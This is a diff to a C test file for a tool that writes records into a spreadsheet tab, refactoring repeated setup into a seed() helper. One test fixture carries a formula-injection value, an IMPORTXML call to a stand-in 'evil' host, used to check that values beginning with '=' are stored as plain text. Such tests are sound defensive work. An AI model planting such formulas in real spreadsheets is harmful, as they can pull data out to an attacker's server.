@@ -111,6 +111,17 @@ static srr_rc upsert(env *e, json_t *rows, srr_sheets_upsert_result *res, srr_er
     return rc;
 }
 
+/* The tab SRR made by a person, then `rows` upserted into it; returns
+ * rows (the caller's still, to decref). */
+static json_t *seed(env *e, json_t *rows)
+{
+    srr_error err = {0};
+    srr_sheets_upsert_result res;
+    fake_sheets_add_tab(e->fs, "SRR");
+    cr_assert_eq(upsert(e, rows, &res, &err), SRR_OK, "%s", err.msg);
+    return rows;
+}
+
 Test(sheets, tab_created_once_and_rows_upserted_by_id, .timeout = 60)
 {
     env e = setup();
@@ -156,12 +167,10 @@ Test(sheets, a_row_is_found_by_id_after_a_person_resorted_the_sheet, .timeout = 
     env e = setup();
     srr_error err = {0};
     srr_sheets_upsert_result res;
-    fake_sheets_add_tab(e.fs, "SRR");
-    json_t *rows =
-        json_pack("[o,o,o,o]", record_row("SRR-1", "a disk", "draft"),
-                  record_row("SRR-2", "b checkout", "open"),
-                  record_row("SRR-3", "c memory", "open"), record_row("SRR-4", "d queue", "draft"));
-    cr_assert_eq(upsert(&e, rows, &res, &err), SRR_OK, "%s", err.msg);
+    json_t *rows = seed(&e, json_pack("[o,o,o,o]", record_row("SRR-1", "a disk", "draft"),
+                                      record_row("SRR-2", "b checkout", "open"),
+                                      record_row("SRR-3", "c memory", "open"),
+                                      record_row("SRR-4", "d queue", "draft")));
     cr_assert_eq(row_of(e.fs, "SRR-2"), 3);
     fake_sheets_person_sort(e.fs, "SRR", 2, 1); /* by Title, descending */
     cr_assert_eq(row_of(e.fs, "SRR-2"), 4, "the person's sort moved SRR-2");
@@ -188,10 +197,8 @@ Test(sheets, a_persons_edit_is_read_back_before_writing, .timeout = 60)
     env e = setup();
     srr_error err = {0};
     srr_sheets_upsert_result res;
-    fake_sheets_add_tab(e.fs, "SRR");
-    json_t *rows = json_pack("[o,o]", record_row("SRR-1", "disk", "draft"),
-                             record_row("SRR-2", "checkout", "draft"));
-    cr_assert_eq(upsert(&e, rows, &res, &err), SRR_OK, "%s", err.msg);
+    json_t *rows = seed(&e, json_pack("[o,o]", record_row("SRR-1", "disk", "draft"),
+                                      record_row("SRR-2", "checkout", "draft")));
     fake_sheets_person_sort(e.fs, "SRR", 0, 1);
     fake_sheets_person_edit(e.fs, "SRR", row_of(e.fs, "SRR-2"), 3, "open");
     fake_sheets_person_edit(e.fs, "SRR", row_of(e.fs, "SRR-2"), 5, "bob");
@@ -220,11 +227,9 @@ Test(sheets, values_starting_with_equals_are_text, .timeout = 60)
 {
     env e = setup();
     srr_error err = {0};
-    srr_sheets_upsert_result res;
-    fake_sheets_add_tab(e.fs, "SRR");
-    json_t *rows = json_pack("[o,o]", record_row("SRR-1", "=1+2", "draft"),
-                             record_row("SRR-2", "=IMPORTXML(\"http://evil\",\"//a\")", "draft"));
-    cr_assert_eq(upsert(&e, rows, &res, &err), SRR_OK, "%s", err.msg);
+    json_t *rows =
+        seed(&e, json_pack("[o,o]", record_row("SRR-1", "=1+2", "draft"),
+                           record_row("SRR-2", "=IMPORTXML(\"http://evil\",\"//a\")", "draft")));
     int formula = -1;
     char *v = fake_sheets_cell(e.fs, "SRR", 2, 2, &formula);
     cr_assert_str_eq(v, "=1+2");
